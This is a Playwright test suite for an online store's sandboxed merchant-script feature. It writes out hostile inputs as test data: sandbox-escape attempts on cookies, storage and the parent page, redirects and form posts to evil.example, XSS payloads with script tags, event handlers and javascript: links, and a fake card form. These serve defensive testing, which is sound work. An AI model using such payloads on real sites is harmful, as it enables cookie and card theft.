import { expect, type Page, test } from '@playwright/test'

import { api } from '../helpers/api.ts'
import { expectThanks, fillAddress, fillCard, cards, pay, toCheckout } from '../helpers/buy.ts'
import { hindrancesOf, watch } from '../helpers/complaints.ts'
import { expectSeen, listener, newCodedStore, saveCheckout, workerOf } from '../helpers/custom-code.ts'
import { signIn } from '../helpers/people.ts'
import { previewOf } from '../helpers/preview.ts'

const hiddenFrame = (page: Page) => page.frames().find((frame) => frame.url().endsWith('/custom-code'))
const frames = (page: Page) => page.locator('iframe')

/** Waits until the page has loaded and had time to do what it does when idle. */
async function untilIdle(page: Page): Promise<void> {
  await page.waitForLoadState('networkidle')
  await page.evaluate(() => new Promise((resolve) => requestIdleCallback(() => requestIdleCallback(resolve))))
}

test('the script learns of views, the cart, the checkout and the order, each once', async ({ page, context }) => {
  const { origin, handle } = await newCodedStore({ customJs: listener })
  const complaints = watch(page)
  await page.goto(`${origin}/products/coded-lamp`)
  const [, viewed] = await expectSeen(page, ['page_viewed', 'product_viewed'])
  expect(viewed).toMatchObject({ product: { handle: 'coded-lamp', title: 'Coded lamp', price: 4200, currency: 'USD' } })
  await page.getByRole('button', { name: 'Add to cart' }).first().click()
  const changed = (await expectSeen(page, ['page_viewed', 'product_viewed', 'cart_changed'])).at(-1)
  expect(changed).toMatchObject({ lines: [{ productHandle: 'coded-lamp', quantity: 1, total: 4200 }], subtotal: 4200 })
  await page.goto(`${origin}/cart`)
  await expectSeen(page, ['page_viewed'])

  // The page with the card has no frame. What it tells waits.
  await toCheckout(page, handle, 'coded-lamp')
  await untilIdle(page)
  await expect(frames(page)).toHaveCount(0)
  await fillAddress(page)
  await fillCard(page, cards.success)
  await pay(page)
  await expectThanks(page)
  const told = await expectSeen(page, ['page_viewed', 'checkout_started', 'page_viewed', 'purchase'])
  expect(told[1]).toMatchObject({ lines: [{ quantity: 2 }] })
  expect(told[3]).toMatchObject({ lines: [{ productHandle: 'coded-lamp', quantity: 2 }], subtotal: 8400, currency: 'USD', paid: true })
  expect(JSON.stringify(told)).not.toMatch(/ada|lovelace|example\.com|St James|4242 /i)
  expect(JSON.stringify(told)).not.toContain(new URL(page.url()).pathname.slice('/orders/'.length))
  await page.reload()
  await expectSeen(page, ['page_viewed'])

  // Another browser that opens the link of the email has bought nothing.
  const elsewhere = await context.browser()!.newPage()
  await elsewhere.goto(page.url())
  await expectSeen(elsewhere, ['page_viewed'])
  await elsewhere.close()
  expect(complaints).toEqual([])
})

test('the steps before the payment have the frame, and the payment has none and forbids it', async ({ page }) => {
  const { handle } = await newCodedStore({ customJs: listener, step: 'multi' })
  await toCheckout(page, handle, 'coded-lamp')
  await expectSeen(page, ['page_viewed', 'checkout_started'])
  await fillAddress(page)
  await page.getByRole('button', { name: 'Continue to shipping' }).click()
  await expect(page).toHaveURL(/\/checkout\/shipping$/)
  await expectSeen(page, ['page_viewed'])
  const loaded = page.waitForResponse(/\/checkout\/payment$/)
  await page.getByRole('button', { name: 'Continue to payment' }).click()
  await untilIdle(page)
  await expect(frames(page)).toHaveCount(0)
  expect((await (await loaded).allHeaders())['content-security-policy']).not.toContain('frame-src')
})

test('the script gets out neither as itself nor from its frame', async ({ page, context }) => {
  const { origin } = await newCodedStore({ customJs: listener })
  await page.goto(`${origin}/products/coded-lamp`)
  await page.getByRole('button', { name: 'Add to cart' }).first().click()
  await expect(page.getByRole('link', { name: 'Check out' })).toBeVisible()
  const worker = await workerOf(page)
  await page.evaluate(() => localStorage.setItem('secret', 'yes'))

  const absent = [
    'document',
    'window',
    'parent',
    'top',
    'open',
    'localStorage',
    'sessionStorage',
    'postMessage',
    'Worker',
    'cookieStore',
    'caches',
  ]
  expect(await worker.evaluate((names) => names.filter((name) => name in globalThis), absent)).toEqual([])
  expect(await worker.evaluate(() => origin)).toBe('null')
  const targets = [`${origin}/cart.json`, `${origin}/cart`, `http://localhost:${new URL(origin).port}/api/profile`]
  for (const target of targets)
    for (const mode of ['cors', 'no-cors'] as const) {
      const got = worker.evaluate(
        async ([url, how]) =>
          fetch(url, { mode: how, credentials: 'include' }).then(
            () => 'answered',
            () => 'refused',
          ),
        [target, mode] as const,
      )
      expect(await got, `${mode} ${target}`).toBe('refused')
    }
  const stored = await worker.evaluate(
    async () =>
      new Promise<string>((resolve) => {
        try {
          const opening = indexedDB.open('x')
          opening.addEventListener('success', () => resolve('opened'))
          opening.addEventListener('error', () => resolve('refused'))
        } catch {
          resolve('refused')
        }
      }),
  )
  expect(stored).toBe('refused')

  // As if a script had got from its worker into the document of the frame.
  const frame = hiddenFrame(page)!
  const attempts: Record<string, () => unknown> = {
    cookie: () => document.cookie,
    localStorage: () => localStorage.length,
    sessionStorage: () => sessionStorage.length,
    page: () => parent.document.title,
    pageStorage: () => parent.localStorage.getItem('secret'),
    frameElement: () => frameElement!.id,
  }
  for (const [name, attempt] of Object.entries(attempts))
    await expect(frame.evaluate(attempt), name).rejects.toThrow(/SecurityError|Blocked|null/)
  expect(await frame.evaluate(() => open('https://evil.example/') === null)).toBe(true)
  await frame.evaluate(() => {
    try {
      top!.location.href = 'https://evil.example/'
    } catch {
      // The browser refuses by throwing or by doing nothing.
    }
  })
  await frame.evaluate(() => {
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', target: '_top', method: 'post' })
    document.body.append(form)
    form.submit()
    const script = Object.assign(document.createElement('script'), { textContent: 'window.ran = 1' })
    document.body.append(script)
  })
  expect(await frame.evaluate(() => 'ran' in globalThis)).toBe(false)
  const before = await page.locator('main').innerHTML()
  await page.evaluate(() => Object.assign(globalThis, { heard: new Promise((resolve) => addEventListener('message', resolve)) }))
  await frame.evaluate(() => parent.postMessage({ name: 'cart_changed', forged: true }, '*'))
  await page.evaluate(() => (globalThis as unknown as { heard: Promise<unknown> }).heard.then(() => undefined))
  expect(await page.locator('main').innerHTML()).toBe(before)
  expect(page.url()).toBe(`${origin}/products/coded-lamp`)
  expect(context.pages()).toHaveLength(1)
})

const loads = {
  'an endless loop': 'for (;;);',
  'an endless loop in a handler': `vitrine.on('page_viewed', () => { for (;;); })`,
  'a flood of messages': `${listener}try { for (;;) postMessage('x'.repeat(1e6)) } catch (error) { self.failed = String(error) }`,
  'a flood of errors': 'const again = () => { setTimeout(again); throw new Error("x".repeat(1e5)) }; again()',
  'a flood of console lines': 'for (;;) console.log("x".repeat(1e4))',
  'a syntax error': 'for (((',
}
for (const [name, customJs] of Object.entries(loads))
  test(`the page goes on beside ${name}`, async ({ page }) => {
    const { origin } = await newCodedStore({ customJs })
    await page.goto(`${origin}/products/coded-lamp`)
    await expect.poll(() => page.workers().length).toBe(1)
    await page.getByRole('button', { name: 'Add to cart' }).first().click()
    await expect(page.getByRole('link', { name: 'Check out' })).toBeVisible()
    expect(await page.evaluate(() => 1 + 1)).toBe(2)
  })

test('the frame opened by itself has no origin, and other sites cannot frame it', async ({ page, context }) => {
  const { origin } = await newCodedStore({ customJs: listener })
  const shop = await context.newPage()
  await shop.goto(`${origin}/products/coded-lamp`)
  await shop.getByRole('button', { name: 'Add to cart' }).first().click()
  await expect(shop.getByRole('link', { name: 'Check out' })).toBeVisible()
  await page.goto(`${origin}/custom-code`)
  expect(await page.evaluate(() => self.origin)).toBe('null')
  await expect(page.evaluate(() => document.cookie)).rejects.toThrow(/SecurityError/)
  const { origin: other } = await newCodedStore({})
  await page.goto(other)
  await page
    .evaluate(async (src) => {
      const frame = Object.assign(document.createElement('iframe'), { src })
      document.body.append(frame)
      await new Promise((resolve) => frame.addEventListener('load', resolve))
    }, `${origin}/custom-code`)
    .catch(() => undefined)
  expect(page.workers()).toEqual([])
})

test('nothing of it is on the pages of a store without a script, or of one that was stopped', async ({ page }) => {
  const { owner, origin } = await newCodedStore({ customJs: listener, customHtml: '<p>Own words</p>' })
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).pathname))
  const token = owner.session.accessToken
  await page.goto(origin)
  await expectSeen(page, ['page_viewed'])
  await api('customCode.update', { token, body: { enabled: false } })
  asked.length = 0
  await expect.poll(async () => (await page.goto(origin))!.text(), { timeout: 2000 }).not.toContain('custom-code')
  asked.length = 0
  await page.goto(origin)
  await untilIdle(page)
  expect(asked.filter((path) => path.includes('custom-code'))).toEqual([])
  await expect(frames(page)).toHaveCount(0)
  await api('customCode.update', { token, body: { enabled: true } })
  await saveCheckout(token, { customJs: '' })
  await expect.poll(async () => (await page.goto(origin))!.text(), { timeout: 2000 }).not.toContain('custom-code')
})

test('the owner stops it in the preferences, and sees who wrote it', async ({ page }) => {
  const { owner, origin } = await newCodedStore({ customJs: listener })
  await signIn(page, owner)
  await page.goto('/admin/online-store/preferences')
  const card = page.getByRole('region', { name: 'Custom code' })
  await expect(card.getByText(`${owner.email} changed the code of`)).toBeVisible()
  await card.getByText('changed the code of').click()
  await expect(card.getByText('vitrine.on(name, (event) => self.seen.push(event))')).toBeVisible()
  expect(await hindrancesOf(page)).toEqual([])
  await card.getByText('Allow custom code from').click()
  await expect(card.getByText('stopped custom code')).toBeVisible()
  await expect.poll(async () => (await page.goto(origin))!.text()).not.toContain('custom-code')
})

test('a browser that asks not to be tracked gets no frame', async ({ page }) => {
  const { origin } = await newCodedStore({ customJs: listener })
  await page.addInitScript(() => Object.defineProperty(Navigator.prototype, 'globalPrivacyControl', { get: () => true }))
  await page.goto(origin)
  await untilIdle(page)
  await expect(frames(page)).toHaveCount(0)
  expect(await page.evaluate(() => localStorage.getItem('custom-code'))).toBeNull()
})

test('custom HTML is text and links only', async ({ page }) => {
  const customHtml = `<p id="own">Own words</p><script>window.hacked = 1</script><img src="/x" onerror="window.hacked = 1">
    <iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="card"><button>Pay here</button></form>
    <div style="position:fixed;inset:0;z-index:9999;background:red">Cover</div><style>body { display: none }</style>
    <a href="javascript:window.hacked=1">Press</a><svg onload="window.hacked=1"></svg><object data="https://evil.example/"></object>
    <meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">`
  const { handle, origin } = await newCodedStore({ customHtml })
  const complaints = watch(page)
  await toCheckout(page, handle, 'coded-lamp')
  const own = page.locator('.checkout-main .prose', { hasText: 'Own words' })
  await expect(own).toBeVisible()
  const forbidden =
    'script, style, iframe, form, input, button, object, svg, meta, base, link, [style*="position"], [onerror], [onload], [id], [href^="javascript"]'
  await expect(own.locator(forbidden)).toHaveCount(0)
  await expect(page.locator('.checkout-main style, .checkout-main iframe, .checkout-main object')).toHaveCount(0)
  const cover = await page.getByText('Cover', { exact: true }).evaluate((element) => getComputedStyle(element).position)
  expect(cover).toBe('static')
  await page.getByText('Press', { exact: true }).click()
  expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
  expect(page.url()).toBe(`${origin}/checkout`)
  expect(complaints).toEqual([])
})

test.describe('without policies', () => {
  test.use({ bypassCSP: true })

  test('the frame still asks the store without the cookies of the shopper, and cannot read the answer', async ({ page }) => {
    const { origin } = await newCodedStore({ customJs: listener })
    await page.goto(`${origin}/products/coded-lamp`)
    await page.getByRole('button', { name: 'Add to cart' }).first().click()
    await expect(page.getByRole('link', { name: 'Check out' })).toBeVisible()
    await workerOf(page)
    const frame = hiddenFrame(page)!
    const asked = page.waitForRequest((request) => request.url().endsWith('/cart.json') && request.frame() === frame)
    const got = frame.evaluate(async () =>
      fetch(new URL('/cart.json', location.href), { credentials: 'include' }).then(
        () => 'answered',
        () => 'refused',
      ),
    )
    expect(await (await asked).allHeaders()).not.toHaveProperty('cookie')
    expect(await got).toBe('refused')
  })
})

test('the preview of the theme editor runs no custom code', async ({ page }) => {
  const { owner } = await newCodedStore({ customJs: listener })
  const { frame, ask } = await previewOf(page, owner.session.accessToken)
  for (const shown of ['product', 'cart', 'checkout', 'order'] as const) {
    await ask({ type: 'pageChange', page: shown }, 'loaded')
    await expect(frame.locator('main').locator('h1, h2').first(), shown).toBeVisible()
  }
  await expect(frame.locator('iframe, script[data-events]')).toHaveCount(0)
  expect(page.workers()).toEqual([])
})
